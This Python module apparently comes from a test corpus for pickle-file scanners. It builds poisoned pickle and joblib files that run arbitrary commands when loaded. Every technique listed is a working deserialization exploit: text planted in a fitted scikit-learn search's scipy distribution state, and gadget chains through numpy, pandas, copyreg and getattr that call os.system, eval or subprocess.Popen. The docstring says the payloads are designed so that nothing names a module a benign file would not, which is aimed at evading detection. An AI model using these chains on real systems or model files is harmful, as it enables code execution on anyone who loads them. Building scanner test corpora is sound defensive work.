"""Genuine objects with one part changed: nothing is named that a benign file does not name."""

from __future__ import annotations

import io
import pickle
from typing import Any

import joblib

from corpus.assembler import call, name, pickled
from corpus.entry import Place, Technique

_TEMPLATE = "_parse_arg_template"


def searched() -> Any:
    """Return a fitted search whose distribution keeps source text in its state."""
    import numpy as np
    from scipy.stats import loguniform
    from sklearn.linear_model import Ridge
    from sklearn.model_selection import RandomizedSearchCV

    x = np.arange(20.0).reshape(10, 2)
    search = RandomizedSearchCV(Ridge(), {"alpha": loguniform(0.1, 1.0)}, n_iter=1, cv=2, random_state=0)
    return search.fit(x, x[:, 0])


def poisoned(place: Place) -> Any:
    """Return the same with the text changed."""
    model = searched()
    distribution = model.param_distributions["alpha"].dist
    setattr(distribution, _TEMPLATE, f"{place.code}\n" + getattr(distribution, _TEMPLATE))
    return model


def _search_by_joblib(place: Place) -> bytes:
    file = io.BytesIO()
    joblib.dump(poisoned(place), file)
    return file.getvalue()


def _distribution(place: Place) -> bytes:
    return pickle.dumps(poisoned(place).param_distributions["alpha"].dist, protocol=4)


def _zone_reader(place: Place) -> bytes:
    """Ask for ``getattr`` as a time zone does, of another object."""
    return pickled(call(call(name("builtins", "getattr"), name("shutil", "os"), "system"), place.command))


def _random_state(place: Place) -> bytes:
    """Make a generator by a constructor that is a function of the file's choice."""
    return pickled(
        call(name("numpy.random._pickle", "__randomstate_ctor"), call(name("os", "system"), place.command))
    )


def _masked(place: Place) -> bytes:
    """Reconstruct an array of a class that is a call's result."""
    return pickled(
        call(
            name("numpy.ma", "MaskedArray.__reduce__"),
            call(name("builtins", "eval"), place.code),
        )
    )


def _unpickle_block(place: Place) -> bytes:
    """Hand a call's result to the function that rebuilds a block of a frame."""
    return pickled(
        call(
            name("pandas._libs.internals", "_unpickle_block"), call(name("os", "system"), place.command), 1, 2
        )
    )


def _reconstructor(place: Place) -> bytes:
    """Hand a call's result to the oldest constructor."""
    return pickled(
        call(
            name("copyreg", "_reconstructor"),
            call(name("os", "system"), place.command),
            name("builtins", "object"),
            None,
        )
    )


def _newobj_function(place: Place) -> bytes:
    """Make an object by ``copyreg``'s function instead of the opcode."""
    return pickled(call(name("copyreg", "__newobj__"), name("subprocess", "Popen"), ["touch", place.marker]))


def _newobj_then_init(place: Place) -> bytes:
    """Call a class's initializer by a dotted name."""
    return pickled(
        call(
            name("io", "FileIO.__init__"),
            call(name("copyreg", "__newobj__"), name("io", "FileIO")),
            place.marker,
            "w",
        )
    )


TECHNIQUES = [
    Technique(
        "scipy distribution in a search",
        "gadgets",
        "one string of a fitted search is changed",
        _search_by_joblib,
        loader="joblib",
        suffix=".joblib",
    ),
    Technique("scipy distribution", "gadgets", "its __setstate__ runs a text in its state", _distribution),
    Technique("getattr as a time zone asks for it", "gadgets", "for another object", _zone_reader),
    Technique("random state constructor", "gadgets", "around a call", _random_state),
    Technique("masked array", "gadgets", "around a call", _masked),
    Technique("pandas block", "gadgets", "around a call", _unpickle_block, needs=("pandas",)),
    Technique("copyreg reconstructor", "gadgets", "around a call", _reconstructor),
    Technique(
        "copyreg newobj", "gadgets", "makes, and does not initialize", _newobj_function, executes=False
    ),
    Technique("initializer by a dotted name", "gadgets", "after the object was made", _newobj_then_init),
]
